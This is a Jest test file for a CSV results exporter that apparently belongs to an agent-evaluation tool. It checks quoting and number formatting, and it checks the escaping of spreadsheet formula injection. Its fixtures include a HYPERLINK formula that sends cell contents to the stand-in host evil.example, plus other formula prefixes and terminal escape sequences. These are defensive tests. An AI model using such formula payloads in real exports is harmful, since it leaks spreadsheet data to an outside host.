import { describe, expect, it } from '@jest/globals';
import type { FailureClass } from '../../projections/run-analysis/analysis.types.js';
import { analysisFixture } from '../../projections/run-analysis/testing/run-fixture.js';
import { csvCell, csvField, formatNumber, resultsCsv } from './results-csv.js';

const run = (runId: string, best: number | null, extra: { cls?: FailureClass; driver?: string } = {}) =>
  analysisFixture({
    runId,
    driver: extra.driver ?? 'none',
    baseline: 10,
    best,
    improvement: best === null ? null : best - 10,
    failure: { class: extra.cls ?? (best !== null && best > 10 ? 'success' : 'no_improvement'), rule: 'r', evidence: [] },
  });

describe('resultsCsv', () => {
  it('writes exactly the paper columns, one row per run ordered by timestamp then run id, RFC 4180 quoted', () => {
    const early = { ...run('z-run', 40, { driver: 'gpt "x", v2' }), scheduledAt: '2026-01-01T00:00:00.000Z', workspace: '/ws/z', durationS: 12.34567 };
    const late = { ...run('a-run', null, { cls: 'timeout_no_submission' }), scheduledAt: '2026-01-02T00:00:00.000Z', workspace: null };
    const tie = { ...run('b-run', 40), scheduledAt: '2026-01-01T00:00:00.000Z' };
    const lines = resultsCsv([late, early, tie]).split('\r\n');
    expect(lines[0]).toBe('run_id,timestamp,task,agent,driver_model,base_model,baseline,best_score,improvement,submissions,duration_s,success,workspace');
    expect(lines[1]).toBe('b-run,2026-01-01T00:00:00.000Z,ref-arith,reference,none,arith-base,10,40,30,0,20,true,');
    expect(lines[2]).toBe('z-run,2026-01-01T00:00:00.000Z,ref-arith,reference,"gpt ""x"", v2",arith-base,10,40,30,0,12.3457,true,/ws/z');
    expect(lines[3]).toBe('a-run,2026-01-02T00:00:00.000Z,ref-arith,reference,none,arith-base,10,,,0,20,false,');
    expect(lines[4]).toBe('');
    expect(lines).toHaveLength(5);
  });

  it('formats numbers with at most 4 decimals, no trailing zeros and no negative zero', () => {
    expect([null, 40, 12.34567, 0.1 + 0.2, -0.00001, 1e-7].map(formatNumber)).toEqual(['', '40', '12.3457', '0.3', '0', '0']);
  });

  it('quotes fields with commas, quotes and line breaks only', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });
});

describe('csvCell', () => {
  it('neutralises what a spreadsheet would evaluate, with a leading quote, and keeps numbers numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const formula of ['+1+1', '-2+3', '@SUM(A1:A9)', '＝1+1', '＋cmd', '－1', '＠x', '-', '+']) expect(csvCell(formula)).toBe(`'${formula}`);
    for (const number of ['-3.5', '+2', '-0.25', '1e-7', '-1E+3', '40', '-.5']) expect(csvCell(number)).toBe(number);
    expect(csvCell('gpt-4o')).toBe('gpt-4o');
  });

  it('shows control characters escaped, tab and CR included, so no cell starts a formula through them', () => {
    expect(csvCell('\t=1+1')).toBe('\\t=1+1');
    expect(csvCell('\r=1+1')).toBe('\\r=1+1');
    expect(csvCell('m\x1b]0;pwned\x07\u202e')).toBe('m\\x1b]0;pwned\\x07\\u202e');
  });

  it('neutralises a requested model name in results.csv, not the numeric columns', () => {
    const hostile = { ...run('r1', 7.5, { driver: '=HYPERLINK("http://evil.example","ok")' }), scheduledAt: '2026-01-01T00:00:00.000Z', workspace: '@ws' };
    const row = resultsCsv([hostile]).split('\r\n')[1];
    expect(row).toBe(`r1,2026-01-01T00:00:00.000Z,ref-arith,reference,"'=HYPERLINK(""http://evil.example"",""ok"")",arith-base,10,7.5,-2.5,0,20,false,'@ws`);
  });
});
